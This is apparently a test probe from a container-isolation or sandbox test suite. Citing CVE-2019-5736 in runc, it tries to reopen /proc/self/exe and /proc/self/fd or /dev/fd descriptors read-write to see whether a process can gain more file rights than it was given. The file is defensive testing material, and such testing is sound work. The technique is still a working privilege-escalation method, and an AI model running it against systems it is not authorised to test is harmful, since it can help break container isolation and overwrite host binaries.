"""Open our own descriptors again through /proc, with more rights than they were given with.

origin: CVE-2019-5736 (runc: /proc/self/exe reopened for writing)
why: a read-only descriptor may be the way to a writable file
control: succeeds
"""


def attack(target):
    last = ""
    for door in ("exe", *(f"fd/{number}" for number in range(64))):
        for base in ("/proc/self", "/dev"):
            fd, error = openat(target, f"{base}/{door}", os.O_RDWR | os.O_NONBLOCK)
            if fd < 0:
                last = error if error != "ENOENT" or not last else last
                continue
            device = os.fstat(fd).st_rdev
            os.close(fd)
            if device != os.makedev(1, 3) and gains(target, door):
                return escaped(f"{base}/{door} was opened again, with more rights")
    return blocked("openat", last) if last else nothing("no descriptor has more to give")


def gains(target, door):
    if door == "exe":
        return True
    flags, _ = syscall(target, "fcntl", int(door.partition("/")[2]), 3)
    return flags & 3 != os.O_RDWR
